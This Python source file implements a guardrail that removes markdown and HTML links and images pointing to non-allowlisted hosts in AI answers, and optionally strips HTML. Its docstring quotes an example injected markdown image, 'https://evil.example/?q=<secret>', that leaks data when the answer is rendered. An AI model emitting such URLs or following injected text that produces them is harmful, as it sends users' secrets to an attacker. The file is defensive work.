"""The ``sanitize`` guardrail: answers cleaned before they are shown.

- Markdown images and links (inline, reference-style, HTML ``<img>``/``<a>``) to hosts
  outside ``allowed_hosts`` are neutralized: a rendered image URL is a classic exfiltration
  channel (an injected "![](https://evil.example/?q=<secret>)" leaks data the moment the
  answer is displayed). Only ``http``/``https`` URLs to allowed hosts (or a subdomain)
  and relative links are kept; ``javascript:``/``data:`` never.
- With ``html: true``, HTML tags are removed (``<script>``/``<style>`` with their body).

``redact`` rewrites them, ``block`` refuses the answer, ``monitor`` counts. In streams
only a possibly unfinished link or tag is held back (from its ``[`` or ``<``), not a fixed
window, so plain text flows at once.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any, ClassVar
from urllib.parse import urlsplit

import re2

from portway.config import ConfigError
from portway.guardrails.base import Finding, Guardrail, GuardSession
from portway.guardrails.spans import Detector, scan

# The longest text a held link or tag may span before it is let through as text.
MAX_HELD = 2600

# A URL may hold one level of parentheses ("javascript:alert(1)").
_TARGET = r"<?((?:[^\s<>()]|\([^\s<>()]*\))+)>?(?:[ \t]{1,3}\"[^\"\n]{0,200}\")?[ \t]{0,3}"
_LINKS = (
    Detector.of("IMAGE", rf"!\[([^\[\]\n]{{0,500}})\]\([ \t]{{0,3}}{_TARGET}\)"),
    Detector.of("LINK", rf"\[([^\[\]\n]{{0,500}})\]\([ \t]{{0,3}}{_TARGET}\)"),
    Detector.of("LINK", r"(?m)^[ \t]{0,3}\[([^\[\]\n]{1,200})\]:[ \t]{1,3}<?([^\s<>]+)>?"),
    Detector.of(
        "IMAGE",
        r"(?i)<img\b[^<>]{0,500}?\bsrc[ \t]{0,3}=[ \t]{0,3}[\"']?([^\"'\s<>]+)[^<>]{0,500}>",
    ),
    Detector.of(
        "LINK",
        r"(?i)<a\b[^<>]{0,500}?\bhref[ \t]{0,3}=[ \t]{0,3}[\"']?([^\"'\s<>]+)[^<>]{0,500}>",
    ),
)
_HTML = (
    Detector.of("HTML", r"(?is)<(script|style)\b[^<>]{0,1000}>.*?</(?:script|style)[ \t]{0,3}>"),
    Detector.of("HTML", r"</?[A-Za-z][A-Za-z0-9\-]{0,20}(?:[ \t\n/][^<>]{0,1000})?/?>"),
)
_SCHEME = re2.compile(r"^[A-Za-z][A-Za-z0-9+.\-]{0,20}:")


def host_allowed(url: str, allowed: tuple[str, ...]) -> bool:
    """A relative URL, or an http(s) URL whose host is allowed (subdomains included)."""
    if not _SCHEME.search(url) and not url.startswith("//"):
        return True  # relative: stays on the page's own host
    parts = urlsplit(url)
    if parts.scheme not in ("http", "https", ""):
        return False
    host = (parts.hostname or "").lower().rstrip(".")
    return any(host == name or host.endswith("." + name) for name in allowed)


class SanitizeGuardrail(Guardrail):
    name: ClassVar[str] = "sanitize"
    roles: ClassVar[frozenset[str] | None] = frozenset({"assistant"})  # answers, not prompts

    def __init__(self, allowed_hosts: tuple[str, ...] = (), html: bool = False) -> None:
        self._allowed = tuple(host.lower().strip(".") for host in allowed_hosts)
        self._html = html

    def configured(self, options: Mapping[str, Any]) -> Guardrail:
        unknown = set(options) - {"allowed_hosts", "html"}
        if unknown:
            raise ConfigError(
                f"guardrails: sanitize has no option {sorted(unknown)} (known: allowed_hosts, html)"
            )
        hosts = options.get("allowed_hosts") or []
        html = options.get("html", False)
        if not isinstance(hosts, list) or not all(isinstance(h, str) for h in hosts):
            raise ConfigError("guardrails: sanitize `allowed_hosts` is a list of host names")
        if not isinstance(html, bool):
            raise ConfigError("guardrails: sanitize `html` is true or false")
        return SanitizeGuardrail(tuple(hosts), html)

    def detect(self, text: str) -> list[Finding]:
        if "[" not in text and "<" not in text:
            return []
        found = [f for f in scan(_LINKS, text) if not self._allowed_finding(text, f)]
        if not self._html:
            return found
        taken = [(f.start, f.end) for f in found]
        extra = [
            f for f in scan(_HTML, text) if not any(s < f.end and f.start < e for s, e in taken)
        ]
        return sorted(found + extra, key=lambda finding: finding.start)

    def _allowed_finding(self, text: str, finding: Finding) -> bool:
        url = _url_of(text[finding.start : finding.end], finding.kind)
        return url is not None and host_allowed(url, self._allowed)

    def replace(self, value: str, finding: Finding, session: GuardSession, *, restore: bool) -> str:
        if finding.kind == "HTML":
            return ""
        url = _url_of(value, finding.kind) or ""
        host = urlsplit(url).hostname or "a non-http URL"
        label = _label_of(value)
        what = "image" if finding.kind == "IMAGE" else "link"
        return f"{label} [{what} to {host} removed]".strip()

    def stream_hold(self, text: str) -> int:
        """Where a possibly unfinished link or tag starts (``len(text)``: nothing to hold)."""
        floor = max(0, len(text) - MAX_HELD)
        hold = len(text)
        bracket = text.rfind("[", floor)
        if bracket >= 0:
            rest = text[bracket:]
            middle = rest.find("](")
            opened = rest.find("]") < 0 or rest.endswith("]") or rest.endswith("]:")
            if (middle >= 0 and ")" not in rest[middle + 2 :]) or opened:
                hold = bracket - 1 if bracket and text[bracket - 1] == "!" else bracket
        angle = text.rfind("<", floor)
        if angle >= 0 and ">" not in text[angle:]:
            hold = min(hold, angle)
        return hold


def _label_of(value: str) -> str:
    start = value.find("[")
    end = value.find("]", start + 1)
    return value[start + 1 : end] if 0 <= start < end else ""


def _url_of(value: str, kind: str) -> str | None:
    if value.startswith("<"):
        match = re2.search(r"(?i)\b(?:src|href)[ \t]*=[ \t]*[\"']?([^\"'\s<>]+)", value)
        return match.group(1) if match else None
    open_paren = value.find("](")
    if open_paren >= 0:
        target = value[open_paren + 2 : -1].strip()
    else:  # reference-style: "[label]: url"
        target = value.split("]:", 1)[1].strip() if "]:" in value else ""
    target = target.split()[0] if target.split() else ""
    return target.strip("<>") or None
